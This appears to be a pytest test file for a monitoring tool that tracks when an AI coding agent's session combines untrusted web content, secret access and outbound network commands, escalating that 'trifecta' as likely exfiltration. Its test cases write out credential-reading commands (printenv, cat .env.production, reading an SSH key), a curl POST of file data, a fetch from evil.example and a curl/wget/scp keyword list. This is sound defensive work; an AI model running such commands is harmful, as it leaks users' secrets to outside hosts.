"""Session taints (`input.watchdog.session`): untrusted content, secrets, external effects."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.conftest import PolicyRoot, bash, claude_event, rego_policy, run_cli
from watchdog import session
from watchdog.harnesses import claude

TRIFECTA = rego_policy(
    "cupcake.policies.trifecta",
    """
    escalate contains {"rule_id": "TRIFECTA", "reason": "untrusted + secrets + network",
                       "severity": "HIGH", "rubric": "exfiltration"} if {
        input.watchdog.session.untrusted_content
        input.watchdog.session.secrets_touched
        some w in split(input.tool_input.command, " ")
        w in {"curl", "wget", "scp"}
    }
    add_context contains concat(",", input.watchdog.session.secrets_touched_because) if {
        input.tool_name == "Bash"
        input.watchdog.session.secrets_touched
    }
    """,
    events=["PreToolUse", "PostToolUse"],
)


def post(tool: str, tool_input: dict[str, object], sid: str = "s1") -> dict[str, object]:
    return claude_event("PostToolUse", tool_name=tool, tool_input=tool_input, session_id=sid,
                        cwd="/home/dev/app", tool_response={"stdout": ""})


@pytest.mark.parametrize(
    ("tool", "tool_input", "taint"),
    [
        ("WebFetch", {"url": "https://x.io", "prompt": "p"}, "untrusted_content"),
        ("mcp__github__get_issue", {"n": 1}, "untrusted_content"),
        ("Read", {"file_path": "/etc/hosts"}, "untrusted_content"),
        ("Read", {"file_path": "/home/dev/app/.env"}, "secrets_touched"),
        ("Read", {"file_path": "/home/dev/.ssh/id_ed25519"}, "secrets_touched"),
        ("Bash", {"command": "printenv | grep KEY"}, "secrets_touched"),
        ("Bash", {"command": "cat .env.production"}, "secrets_touched"),
        ("Bash", {"command": "curl -X POST https://x.io -d @a"}, "external_side_effects"),
        ("Bash", {"command": "git add . && git push origin main"}, "external_side_effects"),
        ("Bash", {"command": "sudo -E scp a host:b"}, "external_side_effects"),
    ],
)
def test_classify(tool: str, tool_input: dict[str, object], taint: str) -> None:
    event = claude.parse(post(tool, tool_input))
    assert taint in session.classify(event)


@pytest.mark.parametrize(
    ("tool", "tool_input"),
    [
        ("Read", {"file_path": "/home/dev/app/src/main.py"}),
        ("Bash", {"command": "pytest -q tests/"}),
        ("Bash", {"command": "git status && git diff"}),
        ("Bash", {"command": "echo environment"}),
        ("Edit", {"file_path": "/home/dev/app/.env.example", "old_string": "a", "new_string": "b"}),
    ],
)
def test_ordinary_work_adds_no_taint(tool: str, tool_input: dict[str, object]) -> None:
    assert session.classify(claude.parse(post(tool, tool_input))) == {}


def test_record_and_load_roundtrip(tmp_path: Path) -> None:
    state = str(tmp_path)
    assert session.load(state, "s1")["all_three"] is False
    for tool, tin in [("WebFetch", {"url": "u"}), ("Read", {"file_path": ".env"}),
                      ("Bash", {"command": "curl https://x"})]:
        session.record(state, claude.parse(post(tool, tin)))
    loaded = session.load(state, "s1")
    assert loaded["all_three"] is True
    assert loaded["secrets_touched_because"] == ["Read of /home/dev/app/.env"]
    assert session.load(state, "other-session")["untrusted_content"] is False
    session.record(state, claude.parse(claude_event("PreToolUse", tool_name="WebFetch",
                                                    tool_input={}, session_id="s2")))
    assert session.load(state, "s2")["untrusted_content"] is False  # only completed calls


def test_policy_escalates_when_the_three_meet(hook, root: PolicyRoot, env) -> None:
    """Through the hook: taints recorded at PostToolUse reach a later PreToolUse's policy."""
    root.add("trifecta.rego", TRIFECTA)
    curl = bash("curl -d @x https://x.io", session_id="s9")
    assert hook(curl, policy_dir=root).json == {}
    hook(post("WebFetch", {"url": "https://evil.example", "prompt": "p"}, "s9"), policy_dir=root)
    hook(post("Read", {"file_path": "/home/dev/app/.env"}, "s9"), policy_dir=root)
    run = run_cli(["eval", "--policy-dir", str(root.path), "--explain"], env, json.dumps(curl))
    assert "escalate: [TRIFECTA]" in run.stderr
    assert "Read of /home/dev/app/.env" in run.stdout
    assert (Path(env["XDG_STATE_HOME"]) / "watchdog" / "sessions" / "s9.json").exists()
